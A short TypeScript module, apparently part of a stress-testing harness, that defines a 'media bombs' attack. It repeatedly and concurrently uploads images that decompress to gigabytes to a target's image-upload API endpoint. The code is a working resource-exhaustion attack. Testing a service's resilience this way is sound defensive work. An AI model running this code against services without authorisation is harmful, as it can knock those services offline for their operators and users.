import { makeHeavyPictures, type HeavyPicture } from '../heavy-pictures.js';
import { askOverAndOver, type Attack } from './attack.js';

/** Uploads of pictures that unpack to gigabytes, many at once. */
export function mediaBombs(): Attack {
  let pictures: HeavyPicture[] = [];
  return {
    name: 'media bombs',
    async prepare() {
      pictures = await makeHeavyPictures();
    },
    run: ({ url, apiKey }, until) =>
      askOverAndOver(pictures.length, until, async (nth) => {
        const body = new FormData();
        const picture = pictures[nth % pictures.length];
        body.set('image', new Blob([new Uint8Array(picture?.bytes ?? [])]), 'picture');
        const headers = { 'x-api-key': apiKey };
        const response = await fetch(`${url}/api/upload-image`, { method: 'POST', headers, body });
        await response.arrayBuffer();
        return String(response.status);
      }),
  };
}
